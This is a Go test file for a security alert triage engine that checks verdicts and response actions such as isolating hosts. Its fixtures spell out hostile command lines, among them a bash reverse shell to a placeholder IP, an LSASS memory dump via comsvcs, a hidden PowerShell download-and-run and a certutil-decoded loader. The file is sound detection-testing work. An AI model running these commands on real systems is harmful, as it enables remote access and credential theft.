package rules

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/s1copilot/s1copilot/investigation"
)

// Someone at the keyboard (C2, credential dumping, web shells, lateral movement,
// disabled defences) gets the host isolated, whatever the tool and even when
// SentinelOne only rates it suspicious; the behaviour is the evidence.
func TestHandsOnKeyboardIsIsolated(t *testing.T) {
	for name, f := range map[string]investigation.ThreatFacts{
		"LSASS read by an unknown binary": server(investigation.ThreatFacts{
			ThreatName: "svc.exe", FilePath: `C:\ProgramData\svc.exe`, ConfidenceLevel: "suspicious", OriginatorProcess: "cmd.exe",
			Indicators: []string{"Credential Access: Process opened lsass.exe with PROCESS_VM_READ"}}),
		"comsvcs MiniDump, no technique": server(investigation.ThreatFacts{
			ThreatName: "helper.exe", FilePath: `C:\ProgramData\helper.exe`, ConfidenceLevel: "suspicious",
			CommandLine: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 612 C:\Temp\x.bin full`}),
		"Kerberoasting": desktop(investigation.ThreatFacts{
			ThreatName: "kr.exe", FilePath: `C:\Users\a\kr.exe`, ConfidenceLevel: "malicious", Techniques: []string{"T1558.003"}}),
		"Cobalt Strike beacon": desktop(investigation.ThreatFacts{
			ThreatName: "update.dll", FilePath: `C:\Users\a\AppData\Roaming\update.dll`, ConfidenceLevel: "malicious",
			Indicators: []string{"General: Cobalt Strike beacon found in memory"}}),
		"web shell under IIS": server(investigation.ThreatFacts{
			ThreatName: "cmd.exe", FilePath: `C:\Windows\System32\cmd.exe`, ConfidenceLevel: "malicious",
			CommandLine: "cmd.exe /c whoami & net user", OriginatorProcess: "w3wp.exe"}),
		"Impacket wmiexec": server(investigation.ThreatFacts{
			ThreatName: "cmd.exe", FilePath: `C:\Windows\System32\cmd.exe`, ConfidenceLevel: "suspicious",
			CommandLine: `cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1718000000.12 2>&1`, OriginatorProcess: "wmiprvse.exe"}),
		"PsExec to another host": desktop(investigation.ThreatFacts{
			ThreatName: "PsExec64.exe", FilePath: `C:\Tools\PsExec64.exe`, ConfidenceLevel: "suspicious",
			CommandLine: `PsExec64.exe \\FAB-FS-01 -s cmd.exe`, Techniques: []string{"T1569.002"}}),
		"reverse shell on linux": {ThreatID: "1", ThreatName: "bash", FilePath: "/usr/bin/bash", OSType: "linux", MachineType: "server",
			ConfidenceLevel: "malicious", CommandLine: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", OriginatorProcess: "python3"},
		"defences disabled": server(investigation.ThreatFacts{
			ThreatName: "x.ps1", FilePath: `C:\ProgramData\x.ps1`, ConfidenceLevel: "suspicious", Techniques: []string{"T1562.001"}}),
		"unattended remote access": server(investigation.ThreatFacts{
			ThreatName: "AnyDesk.exe", FilePath: `C:\ProgramData\AnyDesk\AnyDesk.exe`, ConfidenceLevel: "suspicious",
			Classification: "PUA", FileVerificationType: "SignedVerified", PublisherName: "AnyDesk Software GmbH",
			CommandLine:       `AnyDesk.exe --install C:\ProgramData\AnyDesk --silent & echo pw | AnyDesk.exe --set-password`,
			OriginatorProcess: "cmd.exe", Techniques: []string{"T1219"}}),
	} {
		t.Run(name, func(t *testing.T) {
			a := analyze(t, f)
			assert.Equal(t, truePositive, a.Verdict)
			assert.Contains(t, a.Rules, HandsOnKeyboard)
			assert.Contains(t, a.RecommendedActions, kill)
			assert.Contains(t, a.RecommendedActions, isolate)
		})
	}
}

// Hostile behaviour that is not someone at the keyboard is contained on the host:
// no isolation.
func TestHostileBehaviourWithoutIsolation(t *testing.T) {
	for name, f := range map[string]investigation.ThreatFacts{
		"browser password stealer": desktop(investigation.ThreatFacts{
			ThreatName: "pw.exe", FilePath: `C:\Users\a\AppData\Local\Temp\pw.exe`, ConfidenceLevel: "suspicious",
			Indicators: []string{"Credential Access: Process read saved browser passwords"}, Techniques: []string{"T1555.003"}}),
		"miner masquerading as a daemon": {ThreatID: "1", ThreatName: "systemd-journald", FilePath: "/dev/shm/systemd-journald",
			OSType: "linux", MachineType: "server", ConfidenceLevel: "n/a", CommandLine: "/dev/shm/systemd-journald -o 45.9.148.21:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx"},
		"loader decoded by certutil": desktop(investigation.ThreatFacts{
			ThreatName: "a.dll", FilePath: `C:\ProgramData\a.dll`, ConfidenceLevel: "suspicious",
			CommandLine: `certutil.exe -decode C:\ProgramData\a.txt C:\ProgramData\a.dll & rundll32.exe C:\ProgramData\a.dll,Start`}),
	} {
		t.Run(name, func(t *testing.T) {
			a := analyze(t, f)
			assert.Equal(t, truePositive, a.Verdict)
			assert.Contains(t, a.RecommendedActions, kill)
			assert.Contains(t, a.RecommendedActions, quarantine)
			assert.NotContains(t, a.RecommendedActions, isolate)
		})
	}
}

// A container is redeployed, not cut off: isolating the node takes down every pod on it.
func TestContainersAreNotIsolated(t *testing.T) {
	for _, machine := range []string{"kubernetes pod", "kubernetes node", "ecs task"} {
		a := analyze(t, investigation.ThreatFacts{ThreatID: "1", ThreatName: "implant", FilePath: "/tmp/implant", OSType: "linux",
			MachineType: machine, ConfidenceLevel: "malicious", Indicators: []string{"General: Sliver beacon to 203.0.113.5"}})
		assert.Equal(t, acts(kill, quarantine, forensics), a.RecommendedActions, machine)
		assert.Contains(t, a.Summary, "isolate (the agent is a "+machine, machine)
	}
	f := desktop(investigation.ThreatFacts{ThreatName: "implant", FilePath: "/tmp/implant", OSType: "linux", ConfidenceLevel: "malicious",
		Indicators: []string{"General: Sliver beacon"}, Workload: &investigation.Workload{ContainerName: "api"}})
	assert.NotContains(t, analyze(t, f).RecommendedActions, isolate, "a container on an ordinary host")
}

// An Office document is judged by what it starts: a hidden download is a dropper, an
// add-in mapping a share is not.
func TestOfficeChildIsJudgedByItsCommand(t *testing.T) {
	dropper := analyze(t, desktop(investigation.ThreatFacts{ThreatName: "cv.doc", FilePath: `C:\Users\a\Downloads\cv.doc`,
		ConfidenceLevel: "suspicious", OriginatorProcess: "WINWORD.EXE",
		CommandLine: `cmd.exe /c powershell -w hidden iwr http://cdn.example/p -o $env:TEMP\p.exe; saps $env:TEMP\p.exe`}))
	assert.Equal(t, truePositive, dropper.Verdict)
	assert.Contains(t, dropper.Rules, OfficeSpawnsScript)

	copier := analyze(t, desktop(investigation.ThreatFacts{ThreatName: "report.xlsm", FilePath: `C:\Users\a\Documents\report.xlsm`,
		ConfidenceLevel: "suspicious", OriginatorProcess: "EXCEL.EXE",
		CommandLine: `cmd.exe /c net use R: \\FS-01\Reports & copy R:\*.xlsx %USERPROFILE%\Documents & net use R: /delete`}))
	assert.Equal(t, suspicious, copier.Verdict)
	assert.Empty(t, copier.RecommendedActions)
}

// Weak signals alone (a script, discovery, a download over HTTPS) keep a threat at
// suspicious; they are what admin tools do too.
func TestWeakSignalsStaySuspicious(t *testing.T) {
	a := analyze(t, desktop(investigation.ThreatFacts{ThreatName: "inv.ps1", FilePath: `C:\Users\a\Documents\inv.ps1`,
		ConfidenceLevel: "suspicious", CommandLine: "powershell.exe -ExecutionPolicy Bypass -File inv.ps1",
		Techniques: []string{"T1059.001", "T1518", "T1071.001", "T1027"}, Indicators: []string{"Discovery: Script listed installed software"}}))
	assert.Equal(t, suspicious, a.Verdict)
	assert.Equal(t, []string{S1Suspicious}, a.Rules)

	noRating := analyze(t, desktop(investigation.ThreatFacts{ThreatName: "inv.ps1", ConfidenceLevel: "n/a", Techniques: []string{"T1518"}}))
	assert.Equal(t, suspicious, noRating.Verdict)
	assert.Equal(t, []string{WeakSignals}, noRating.Rules)
}
